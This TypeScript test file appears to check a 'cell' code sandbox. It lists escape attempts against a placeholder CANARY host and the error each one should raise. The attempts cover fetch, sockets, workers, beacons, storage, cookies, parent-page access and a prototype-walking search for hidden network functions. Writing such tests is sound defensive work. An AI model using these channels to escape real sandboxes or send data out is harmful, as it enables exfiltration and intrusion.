import { failing, harmless } from "./hostile.ts";

const noNetwork = "a cell has no network";
const noStorage = "a cell keeps nothing between runs";
const isNotThere = "is not defined. Check how it is spelled";

/** Attempts to reach the page, a server or a store. */
export const escapes = [
  ...failing(
    ["fetch", `fetch("CANARY/fetch");`, noNetwork],
    [
      "XMLHttpRequest",
      `const x = new XMLHttpRequest(); x.open("GET", "CANARY/xhr", false); x.send();`,
      noNetwork,
    ],
    ["WebSocket", `new WebSocket("CANARY/socket".replace("http", "ws"));`, noNetwork],
    ["EventSource", `new EventSource("CANARY/events");`, noNetwork],
    ["WebTransport", `new WebTransport("CANARY/transport".replace("http:", "https:"));`, noNetwork],
    [
      "WebRTC",
      `new RTCPeerConnection({ iceServers: [{ urls: "stun:CANARY".replace("http://", "") }] });`,
      isNotThere,
    ],
    ["importScripts", `importScripts("CANARY/script.js");`, noNetwork],
    ["import()", `import("CANARY/module.js");`, "a cell cannot load code from an address"],
    ["import from an address", `import x from "CANARY/module.js"; x;`, /There is no module .* for cells/],
    ["import() out of text", `eval('import("CANARY/eval.js")'); null.x;`, "Cannot read properties of null"],
    [
      "a worker",
      `new Worker(URL.createObjectURL(new Blob(["fetch('CANARY/nested')"])));`,
      "a cell runs in one thread",
    ],
    ["a shared worker", `new SharedWorker("CANARY/shared.js");`, "a cell runs in one thread"],
    [
      "a channel to other pages",
      `new BroadcastChannel("lightcone").postMessage("forged");`,
      "a cell runs in one thread",
    ],
    ["IndexedDB", `indexedDB.open("lightcone");`, noStorage],
    ["caches", `caches.open("x");`, noStorage],
    ["local storage", `localStorage.getItem("x");`, isNotThere],
    ["cookies", `document.cookie;`, isNotThere],
    ["cookies of a worker", `cookieStore.getAll();`, isNotThere],
    [
      "a beacon",
      `navigator.sendBeacon("CANARY/beacon", "told");`,
      "what it tells differs from machine to machine",
    ],
    [
      "a service worker",
      `navigator.serviceWorker.register("CANARY/service.js");`,
      "what it tells differs from machine to machine",
    ],
    ["the page around", `parent.document.body.innerHTML;`, isNotThere],
    ["the top of the window", `top.location = "CANARY/top";`, isNotThere],
    ["a new window", `open("CANARY/window");`, isNotThere],
    ["an image", `const image = new Image(); image.src = "CANARY/image";`, isNotThere],
  ),
  ...harmless(
    ["the origin", `self.origin;`, `"null"`],
    [
      "the location",
      `try { location.href = "CANARY/location"; } catch {} try { location = "CANARY/location"; } catch {} "stays";`,
      `"stays"`,
    ],
    [
      "a font",
      `const font = new FontFace("f", "url(CANARY/font)"); font.load().catch(() => {}); "asked";`,
      `"asked"`,
    ],
    [
      "late requests, when the courtesies are gone",
      `
      Promise.resolve().then(async () => {
        for (const way of [
          () => fetch("CANARY/late"), () => fetch("CANARY/late", { mode: "no-cors" }), () => importScripts("CANARY/late.js"),
          () => new WebSocket("CANARY/late".replace("http", "ws")), () => new EventSource("CANARY/late"),
          () => { const x = new XMLHttpRequest(); x.open("GET", "CANARY/late", false); x.send(); },
          () => navigator.sendBeacon("CANARY/late"), () => eval('import("CANARY/late.js")'),
          () => new Worker(URL.createObjectURL(new Blob(["importScripts('CANARY/late')"]))),
          () => new FontFace("f", "url(CANARY/late)").load(), () => indexedDB.open("lightcone"), () => caches.open("x"),
        ]) try { await way(); } catch {}
      });
      "asked";`,
      `"asked"`,
    ],
    [
      "requests while the cell runs, by the ways that are hidden",
      `
      const hidden = [];
      for (let at = globalThis; at !== null; at = Object.getPrototypeOf(at))
        for (const key of Reflect.ownKeys(at)) { const d = Object.getOwnPropertyDescriptor(at, key); if (typeof d.value === "function" && /fetch|importScripts|Socket|EventSource|XMLHttp|Beacon|Worker/.test(String(key))) hidden.push(d.value); }
      for (const way of hidden) { try { way.call(globalThis, "CANARY/hidden"); } catch {} try { new way("CANARY/hidden"); } catch {} }
      "asked";`,
      `"asked"`,
    ],
    [
      "memory shared with nobody",
      `typeof crossOriginIsolated === "boolean" && crossOriginIsolated;`,
      "false",
    ],
  ),
];
